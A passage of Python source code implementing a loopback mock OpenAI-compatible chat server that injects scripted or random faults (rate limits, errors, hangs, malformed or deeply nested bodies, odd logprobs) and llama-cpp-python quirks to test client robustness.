            super().log_message(format, *args)

    def do_GET(self) -> None:
        self._dispatch("GET")

    def do_POST(self) -> None:
        self._dispatch("POST")

    def _dispatch(self, method: str) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length > 0 else b""
        reply = self.server.llm._handle(method, self.path, self.headers.get("Authorization"), raw)
        if reply is None:
            self.close_connection = True
            return
        status, headers, body = reply
        try:
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            # The client gave up (its timeout is shorter than our latency); nothing left to tell it.
            self.close_connection = True


class LLMServer:
    """OpenAI-compatible ``/v1/chat/completions`` and ``/v1/models`` on loopback, with a pluggable brain and faults.

    Faults come from a script (``faults=[...]`` or ``queue_faults()``, consumed one per chat request, ``"ok"`` for a
    normal answer) and, once the script is empty, at random with ``fault_rate`` from ``fault_kinds`` (repeat a name to
    weight it) using an RNG of their own, so the n-th request's fault depends only on ``seed`` and n.
    """

    def __init__(
        self,
        port: int = 0,
        host: str = "127.0.0.1",
        *,
        brain: Brain | None = None,
        seed: int = 0,
        model: str = "synth-test-1",
        latency: float = 0.0,
        faults: Iterable[str] = (),
        fault_rate: float = 0.0,
        fault_kinds: Sequence[str] = DEFAULT_RANDOM_FAULTS,
        retry_after: float = 1,
        hang_seconds: float = 30.0,
        logprobs_supported: bool = True,
        quirks: Iterable[str] = (),
        context_window: int | None = None,
        api_key: str | None = None,
        max_logged_requests: int = 1000,
        verbose: bool = False,
    ):
        self.host = host
        self._requested_port = port
        self.brain: Brain = brain if brain is not None else DefaultBrain(seed=seed)
        self.seed = seed
        self.model = model
        self.api_key = api_key
        self.verbose = verbose
        self._lock = threading.Lock()
        self._idle = threading.Condition(self._lock)
        self._stop = threading.Event()
        self._script: deque[str] = deque(_checked(faults, allow_ok=True))
        self._fault_rng = random.Random(f"faults:{seed}")
        self._latency = 0.0
        self._fault_rate = 0.0
        self._fault_kinds: tuple[str, ...] = ()
        self._retry_after: float = 1
        self._hang_seconds = 30.0
        self._logprobs_supported = True
        self._quirks: frozenset[str] = frozenset()
        self._context_window: int | None = None
        # Held while a request is handled when the one_at_a_time quirk is on.
        self._one_at_a_time = threading.Lock()
        self.configure(latency=latency, fault_rate=fault_rate, fault_kinds=fault_kinds, retry_after=retry_after,
                       hang_seconds=hang_seconds, logprobs_supported=logprobs_supported, quirks=quirks,
                       context_window=context_window)
        self._requests: deque[dict] = deque(maxlen=max_logged_requests)
        self._stats: dict[str, int] = {}
        self._in_flight = 0
        self._max_in_flight = 0
        self._connections: set[socket.socket] = set()
        self._httpd: _HTTPServer | None = None
        self._thread: threading.Thread | None = None

    # -- lifecycle --

    def start(self) -> LLMServer:
        if self._httpd is not None:
            raise RuntimeError("LLMServer already started")
        self._httpd = _HTTPServer((self.host, self._requested_port), _Handler)
        self._httpd.llm = self
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, name="llm-server", daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        if self._httpd is None:
            return
        # Wake hangs and latency sleeps first so their threads can finish instead of holding connections open.
        self._stop.set()
        self._httpd.shutdown()
        with self._lock:
            connections = list(self._connections)
        for connection in connections:
            try:
                connection.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        self._httpd.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)
        with self._idle:
            self._idle.wait_for(lambda: self._in_flight == 0, timeout=5)

    def __enter__(self) -> LLMServer:
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()

    @property
    def port(self) -> int:
        if self._httpd is None:
            raise RuntimeError("LLMServer not started")
        return self._httpd.server_address[1]

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def base_url(self) -> str:
        return f"{self.url}/v1"

    # -- configuration, changeable while serving --

    def configure(
        self,
        *,
        latency: float | None = None,
        fault_rate: float | None = None,
        fault_kinds: Sequence[str] | None = None,
        fault_seed: int | None = None,
        retry_after: float | None = None,
        hang_seconds: float | None = None,
        logprobs_supported: bool | None = None,
        quirks: Iterable[str] | None = None,
        context_window: int | None = None,
    ) -> None:
        """Change any knob atomically; ``None`` leaves it as it is, ``fault_seed`` restarts the random fault stream.
        ``quirks`` names QUIRKS or QUIRK_PRESETS (replacing the ones set); ``context_window`` (0: none) refuses a
        request whose prompt and output cap exceed it, as llama-cpp-python does (400 context_length_exceeded)."""
        if fault_rate is not None and not 0.0 <= fault_rate <= 1.0:
            raise ValueError(f"fault_rate must be within [0, 1], got {fault_rate}")
        kinds = tuple(_checked(fault_kinds, allow_ok=False)) if fault_kinds is not None else None
        chosen_quirks = quirks_named(quirks) if quirks is not None else None
        if kinds is not None and not kinds:
            raise ValueError("fault_kinds must name at least one fault")
        with self._lock:
            if latency is not None:
                self._latency = max(0.0, float(latency))
            if fault_rate is not None:
                self._fault_rate = float(fault_rate)
            if kinds is not None:
                self._fault_kinds = kinds
            if fault_seed is not None:
                self._fault_rng = random.Random(f"faults:{fault_seed}")
            if retry_after is not None:
                self._retry_after = retry_after
            if hang_seconds is not None:
                self._hang_seconds = float(hang_seconds)
            if logprobs_supported is not None:
                self._logprobs_supported = bool(logprobs_supported)
            if chosen_quirks is not None:
                self._quirks = chosen_quirks
            if context_window is not None:
                self._context_window = context_window or None

    @property
    def latency(self) -> float:
        with self._lock:
            return self._latency

    @latency.setter
    def latency(self, seconds: float) -> None:
        self.configure(latency=seconds)

    @property
    def quirks(self) -> frozenset[str]:
        with self._lock:
            return self._quirks

    @property
    def logprobs_supported(self) -> bool:
        with self._lock:
            return self._logprobs_supported

    @logprobs_supported.setter
    def logprobs_supported(self, supported: bool) -> None:
        self.configure(logprobs_supported=supported)

    def queue_faults(self, *names: str) -> None:
        """Append to the fault script; ``"ok"`` stands for one normal answer."""
        checked = _checked(names, allow_ok=True)
        with self._lock:
            self._script.extend(checked)

    @property
    def pending_faults(self) -> tuple[str, ...]:
        with self._lock:
            return tuple(self._script)

    def reset(self) -> None:
        """Forget the request log, the counters and the fault script; configuration stays."""
        with self._lock:
            self._requests.clear()
            self._stats.clear()
            self._script.clear()
            self._max_in_flight = self._in_flight

    # -- observations --

    @property
    def requests(self) -> list[dict]:
        """Bodies of the chat-completion requests received, oldest first (bounded by ``max_logged_requests``)."""
        with self._lock:
            return list(self._requests)

    @property
    def stats(self) -> dict[str, int]:
        """Counts: ``requests`` (chat completions received), one key per outcome (``ok``, a fault name,
        ``bad_request``, ``unauthorized``, ``brain_error``), ``models`` and ``not_found``."""
        with self._lock:
            return dict(self._stats)

    @property
    def in_flight(self) -> int:
        with self._lock:
            return self._in_flight

    @property
    def max_in_flight(self) -> int:
        """Most requests handled at the same time, to check a client's concurrency limit."""
        with self._lock:
            return self._max_in_flight

    # -- request handling --

    def _track_connection(self, connection: socket.socket, *, open_: bool) -> None:
        with self._lock:
            if open_:
                self._connections.add(connection)
            else:
                self._connections.discard(connection)

    def _count(self, key: str) -> None:
        self._stats[key] = self._stats.get(key, 0) + 1

    def _handle(self, method: str, path: str, authorization: str | None, raw: bytes) -> _Reply | None:
        with self._lock:
            self._in_flight += 1
            self._max_in_flight = max(self._max_in_flight, self._in_flight)
            latency = self._latency
            serial = "one_at_a_time" in self._quirks
        if serial:
            self._one_at_a_time.acquire()
        try:
            if latency:
                self._stop.wait(latency)
            route = path.split("?", 1)[0].rstrip("/")
            if route in ("/v1/chat/completions", "/chat/completions") and method == "POST":
                return self._chat(authorization, raw)
            if route in ("/v1/models", "/models") and method == "GET":
                with self._lock:
                    self._count("models")
                body = {"object": "list", "data": [
                    {"id": self.model, "object": "model", "created": 0, "owned_by": "synthstudio-tests"}
                ]}
                return 200, [("Content-Type", "application/json")], json.dumps(body).encode()
            with self._lock:
                self._count("not_found")
            return 404, [("Content-Type", "application/json")], _error_body(
                f"Unknown request URL: {method} {route}", "invalid_request_error", code="unknown_url"
            )
        finally:
            if serial:
                self._one_at_a_time.release()
            with self._idle:
                self._in_flight -= 1
                self._idle.notify_all()

    def _chat(self, authorization: str | None, raw: bytes) -> _Reply | None:
        try:
            request = self._parse(raw)
        except _RequestError as err:
            with self._lock:
                self._count("requests")
                self._count("bad_request")
            return err.status, [("Content-Type", "application/json")], _error_body(err.message, err.kind)
        with self._lock:
            self._count("requests")
            self._requests.append(request)
        if self.api_key is not None and authorization != f"Bearer {self.api_key}":
            with self._lock:
                self._count("unauthorized")
            return 401, [("Content-Type", "application/json")], _error_body(
                "Incorrect API key provided.", "invalid_request_error", code="invalid_api_key"
            )
        try:
            self._validate(request)
        except _RequestError as err:
            with self._lock:
                self._count("bad_request")
            return err.status, [("Content-Type", "application/json")], _error_body(
                err.message, err.kind, param=err.param, code=err.code
            )
        refusal = self._refusal(request)
        if refusal is not None:
            with self._lock:
                self._count("refused")
            return refusal

        with self._lock:
            fault = self._next_fault()
            if fault in ("429", "500", "503", "hang"):
                self._count(fault)
            retry_after, hang_seconds = self._retry_after, self._hang_seconds
            logprobs_supported = self._logprobs_supported
        request_id = f"req_{uuid.uuid4().hex[:24]}"
        headers = [("Content-Type", "application/json"), ("x-request-id", request_id)]

        if fault == "429":
            seconds = f"{retry_after:g}"
            return 429, headers + [("Retry-After", seconds)], _error_body(
                f"Rate limit reached for requests. Please try again in {seconds}s.", "requests",
                code="rate_limit_exceeded",
            )
        if fault == "500":
            return 500, headers, _error_body(
                "The server had an error while processing your request. Sorry about that!", "server_error"
            )
        if fault == "503":
            return 503, headers, _error_body(
                "The engine is currently overloaded, please try again later.", "server_error"
            )
        if fault == "hang":
            self._stop.wait(hang_seconds)
            return None

        try:
            replies = _as_replies(self.brain(self._as_understood(request)), request.get("n") or 1)
        except Exception as err:  # noqa: BLE001 - a broken custom brain must show up as a 500, not kill the thread
            with self._lock:
                self._count("brain_error")
            return 500, headers, _error_body(f"brain failed: {err!r}", "server_error")
        with self._lock:
            self._count(fault)
        completion = self._completion(request, replies, fault, logprobs_supported)
        body = json.dumps(completion).encode()
        if fault == "malformed_body":
            body = body[: len(body) // 2]
        elif fault == "deep_body":
            # Written out rather than json.dumps'd: serialising it would hit this process's own recursion limit.
            body = body[:-1] + b', "x_extra": ' + b"[" * DEEP + b"]" * DEEP + b"}"
        return 200, headers, body

    def _parse(self, raw: bytes) -> dict:
        try:
            request = json.loads(raw)
        except ValueError:
            raise _RequestError(400, "We could not parse the JSON body of your request.") from None
        if not isinstance(request, dict):
            raise _RequestError(400, "The request body must be a JSON object.")
        return request

    def _validate(self, request: dict) -> None:
        if not request.get("model"):
            raise _RequestError(400, "you must provide a model parameter", param="model")
        messages = request.get("messages")
        if not isinstance(messages, list) or not messages or not all(isinstance(m, dict) for m in messages):
            raise _RequestError(400, "'messages' must be a non-empty array of objects.", param="messages")
        n = request.get("n")
        if n is not None and (not isinstance(n, int) or isinstance(n, bool) or not 1 <= n <= MAX_CHOICES):
            raise _RequestError(400, f"'n' must be an integer between 1 and {MAX_CHOICES}.", param="n")
        if request.get("stream"):
            raise _RequestError(400, "Streaming is not supported by this test server.", param="stream")
        fmt = request.get("response_format")
        if fmt is not None and (not isinstance(fmt, dict)
                                or fmt.get("type") not in ("text", "json_object", "json_schema")):
            raise _RequestError(400, "Invalid value for 'response_format.type'.", param="response_format.type")
        if isinstance(fmt, dict) and fmt.get("type") == "json_schema" and not isinstance(fmt.get("json_schema"), dict):
            raise _RequestError(400, "Missing required parameter: 'response_format.json_schema'.",
                                param="response_format.json_schema")
        top = request.get("top_logprobs")
        if top is not None and self.logprobs_supported:
            if not isinstance(top, int) or isinstance(top, bool) or not 0 <= top <= MAX_TOP_LOGPROBS:
                raise _RequestError(400, f"'top_logprobs' must be between 0 and {MAX_TOP_LOGPROBS}.",
                                    param="top_logprobs")
            if not request.get("logprobs"):
                raise _RequestError(400, "'logprobs' must be true when 'top_logprobs' is set.", param="logprobs")

    def _refusal(self, request: dict) -> _Reply | None:
        """What a quirky server answers a request it will not take: a format, ``n``, or a prompt over its window."""
        quirks, window = self.quirks, self._context_window
        headers = [("Content-Type", "application/json")]
        fmt = request.get("response_format")
        if "json_schema_500" in quirks and isinstance(fmt, dict) and fmt.get("type") == "json_schema":
            return 500, headers, _error_body(LLAMA_CPP_PYTHON_FORMAT_ERROR, "internal_server_error")
        if "n_refused" in quirks and (request.get("n") or 1) != 1:
            return 500, headers, json.dumps(
                {"error": {"code": 500, "message": LLAMA_CPP_N_ERROR, "type": "server_error"}}).encode()
        if window:
            prompt = 3 + sum(3 + count_tokens(message_text(m)) for m in request["messages"])
            cap = request.get("max_tokens") or 0
            if prompt + cap > window:
                return 400, headers, _error_body(
                    f"This model's maximum context length is {window} tokens. However, you requested {prompt + cap} "
                    f"tokens ({prompt} in the messages, {cap} in the completion). Please reduce the length of the "
                    f"messages or completion.", "invalid_request_error", param="messages",
                    code="context_length_exceeded")
        return None

    def _as_understood(self, request: dict) -> dict:
        """The request as the server acts on it: llama-cpp-python turns a schema inside json_object into a grammar
        (the brain sees it as json_schema); elsewhere such a schema is ignored, and n may be."""
        quirks = self.quirks
        fmt = request.get("response_format")
        understood = dict(request)
        if isinstance(fmt, dict) and fmt.get("type") == "json_object" and "schema" in fmt:
            if "schema_in_json_object" in quirks and isinstance(fmt["schema"], dict):
                understood["response_format"] = {"type": "json_schema",
                                                 "json_schema": {"name": "schema", "schema": fmt["schema"]}}
            else:
                understood["response_format"] = {"type": "json_object"}
        if "n_ignored" in quirks:
            understood["n"] = 1
        return understood

    def _next_fault(self) -> str:
        if self._script:
            return self._script.popleft()
        if self._fault_rate > 0 and self._fault_rng.random() < self._fault_rate:
            return self._fault_rng.choice(self._fault_kinds)
        return NO_FAULT

    def _completion(self, request: dict, replies: list[BrainReply], fault: str, logprobs_supported: bool) -> dict:
        quirks = self.quirks
        if "max_completion_tokens_ignored" in quirks:
            max_tokens = request.get("max_tokens")
        else:
            max_tokens = request.get("max_completion_tokens") or request.get("max_tokens")
        unconstrained = "unconstrained_logprobs" in quirks
        if "n_ignored" in quirks:
            replies = replies[:1]
        want_logprobs = logprobs_supported and bool(request.get("logprobs"))
        top_k = request.get("top_logprobs") or 0
        choices = []
        completion_tokens = 0
        for index, reply in enumerate(replies):
            content, finish_reason = reply.text, "stop"
            if fault == "truncated_json":
                content, finish_reason = _make_truncated(content), "length"
            elif fault == "wrong_schema":
                content = _make_wrong_schema(content)
            elif fault == "hostile":
                content = _make_hostile(content)
            elif fault in _CONTENT_FAULTS:
                content = _CONTENT_FAULTS[fault](content)
            tokens, label_at = _tokens_with_label(content, reply.label, split=unconstrained)
            if isinstance(max_tokens, int) and 0 < max_tokens < len(tokens):
                tokens, finish_reason = tokens[:max_tokens], "length"
                content = "".join(tokens)
            completion_tokens += len(tokens)
            logprobs = None
            if want_logprobs:
                entries = _logprobs(tokens, label_at, reply, top_k, self.seed, unconstrained=unconstrained)
                logprobs = {"content": _absurd_logprobs(entries) if fault == "bad_logprobs" else entries,
                            "refusal": None}
            choices.append({
                "index": index,
                "message": {"role": "assistant", "content": _as_object(content) if fault == "non_string_content"
                            else content, "refusal": None, "annotations": []},
                "finish_reason": finish_reason,
                "logprobs": logprobs,
            })
        prompt_tokens = 3 + sum(3 + count_tokens(message_text(m)) for m in request["messages"])
        if fault == "usage_negative":
            prompt_tokens = -1_000_000
        elif fault == "usage_overflow":
            prompt_tokens = 10**19
        elif fault == "usage_huge":
            prompt_tokens = completion_tokens = 10**12
        return {
            "id": f"chatcmpl-{uuid.uuid4().hex[:24]}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": request.get("model") or self.model,
            "choices": choices,
            "usage": {
                "prompt_tokens": prompt_tokens,
                "completion_tokens": completion_tokens,
                "total_tokens": prompt_tokens + completion_tokens,
            },
            "system_fingerprint": "fp_synthstudio_test",
        }


def _checked(names: Iterable[str] | None, *, allow_ok: bool) -> list[str]:
    allowed = set(FAULTS) | ({NO_FAULT} if allow_ok else set())
    out = [str(name) for name in names or ()]
    unknown = [name for name in out if name not in allowed]
    if unknown:
        raise ValueError(f"unknown fault(s) {unknown}; known: {sorted(allowed)}")
    return out


def _as_replies(result: Any, n: int) -> list[BrainReply]:
    if isinstance(result, (str, BrainReply)):
        result = [result] * n
    replies = [item if isinstance(item, BrainReply) else BrainReply(text=str(item)) for item in result]
    if not replies:
        raise ValueError("the brain returned no choices")
    return replies


def _tokens_with_label(content: str, label: str | None, *, split: bool = False) -> tuple[list[str], int | None]:
    """Tokenize, keeping the label word one token so its logprob carries the brain's confidence; with ``split`` (the
    unconstrained_logprobs quirk) the label is two tokens, its first three characters and the rest, as a real
    tokenizer splits a word it has no single token for."""
    if label:
        if content.startswith(label):
            at = 0
        else:
            quoted = content.find(f'"{label}"')
            at = quoted + 1 if quoted >= 0 else -1
        if at >= 0:
            before = tokenize(content[:at])
            pieces = [label[:3], label[3:]] if split and len(label) > 3 else [label]
            return before + pieces + tokenize(content[at + len(label):]), len(before)
    return tokenize(content), None


def _entry(token: str, logprob: float) -> dict[str, Any]:
    return {"token": token, "logprob": logprob, "bytes": list(token.encode("utf-8"))}


def _label_alternatives(reply: BrainReply, token: str, unconstrained: bool) -> tuple[float, list[dict]]:
    """The label position's logprob and alternatives: the labels (their first piece when unconstrained, with the
    tokens a JSON grammar would forbid taking FORBIDDEN_MASS of the probability)."""
    probs = reply.label_probs or {}
    if not unconstrained:
        ranked = sorted(probs.items(), key=lambda item: item[1], reverse=True)
        return (math.log(max(probs.get(token, 0.0), 1e-9)),
                [_entry(label, math.log(max(p, 1e-9))) for label, p in ranked])
    firsts: dict[str, float] = {}
    for label, p in probs.items():
        firsts[label[:3]] = firsts.get(label[:3], 0.0) + p * (1 - FORBIDDEN_MASS)
    for forbidden in _FORBIDDEN_TOKENS:
        firsts[forbidden] = FORBIDDEN_MASS / len(_FORBIDDEN_TOKENS)
    ranked = sorted(firsts.items(), key=lambda item: item[1], reverse=True)
    return math.log(max(firsts.get(token, 0.0), 1e-9)), [_entry(t, math.log(p)) for t, p in ranked]


def _logprobs(tokens: list[str], label_at: int | None, reply: BrainReply, top_k: int, seed: int, *,
              unconstrained: bool = False) -> list[dict]:
    rng = random.Random(f"{seed}|logprobs|{''.join(tokens)}")
    out = []
    for position, token in enumerate(tokens):
        if position == label_at and reply.label_probs:
            logprob, top = _label_alternatives(reply, token, unconstrained)
            top = top[:top_k]
        else:
            logprob = -rng.uniform(0.0, 0.05)
            alternatives = [f for f in _FILLER_TOKENS if f != token]
            rng.shuffle(alternatives)
            top = [_entry(token, logprob)] + [_entry(alt, logprob - 4.0 - 1.5 * i) for i, alt in
                                               enumerate(alternatives)][: max(0, top_k - 1)]
            top = top[:top_k]
        while len(top) < top_k:
            filler = _FILLER_TOKENS[len(top) % len(_FILLER_TOKENS)]
            top.append(_entry(filler, -12.0 - len(top)))
        top.sort(key=lambda item: item["logprob"], reverse=True)
        entry = _entry(token, logprob)
        entry["top_logprobs"] = top
        out.append(entry)
    return out


def quirks_named(names: Iterable[str]) -> frozenset[str]:
    """QUIRKS by name, a preset name standing for its quirks; an unknown name is an error."""
    chosen: set[str] = set()
    for name in names:
        if name in QUIRK_PRESETS:
            chosen.update(QUIRK_PRESETS[name])
        elif name in QUIRKS:
            chosen.add(name)
        else:
            raise ValueError(f"unknown quirk {name!r}; known: {sorted(QUIRKS)} and presets {sorted(QUIRK_PRESETS)}")
    return frozenset(chosen)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8765, help="0 picks a free port")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--model", default="synth-test-1")
    parser.add_argument("--latency", type=float, default=0.0, help="seconds added to every request")
    parser.add_argument("--fault-rate", type=float, default=0.0)
    parser.add_argument("--fault-kinds", default=",".join(DEFAULT_RANDOM_FAULTS),
                        help=f"comma-separated, from {','.join(FAULTS)}")
    parser.add_argument("--script", default="", help="comma-separated faults served first, in order ('ok' = none)")
    parser.add_argument("--retry-after", type=float, default=1)
    parser.add_argument("--hang-seconds", type=float, default=30.0)
    parser.add_argument("--near-duplicate-rate", type=float, default=0.0)
    parser.add_argument("--no-logprobs", action="store_true", help="ignore logprobs like endpoints without them")
    parser.add_argument("--quirks", default="", help=f"comma-separated, from {','.join(QUIRKS)} or a preset: "
                                                     f"{','.join(QUIRK_PRESETS)}")
    parser.add_argument("--context-window", type=int, default=0, help="refuse longer prompts (0: no limit)")
    parser.add_argument("--api-key", default=None, help="require this bearer token")
    parser.add_argument("--verbose", action="store_true", help="log every request to stderr")
    args = parser.parse_args(argv)

    server = LLMServer(
        port=args.port, host=args.host, seed=args.seed, model=args.model, latency=args.latency,
        brain=DefaultBrain(seed=args.seed, near_duplicate_rate=args.near_duplicate_rate),
        faults=[name for name in args.script.split(",") if name],
        fault_rate=args.fault_rate, fault_kinds=[name for name in args.fault_kinds.split(",") if name],
        retry_after=args.retry_after, hang_seconds=args.hang_seconds, logprobs_supported=not args.no_logprobs,
        quirks=[name for name in args.quirks.split(",") if name], context_window=args.context_window,
        api_key=args.api_key, verbose=args.verbose,
    )
    # Benchmarks stop us with terminate(); turning SIGTERM into KeyboardInterrupt still prints the stats.
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    with server:
        # Printed (and flushed) so a benchmark that starts us as a subprocess knows when and where we listen.
        print(f"llm_server listening on {server.base_url}", flush=True)
        try:
            threading.Event().wait()
        except KeyboardInterrupt:
            pass
    print(f"llm_server stats: {json.dumps(server.stats, sort_keys=True)}", flush=True)


if __name__ == "__main__":
    main()
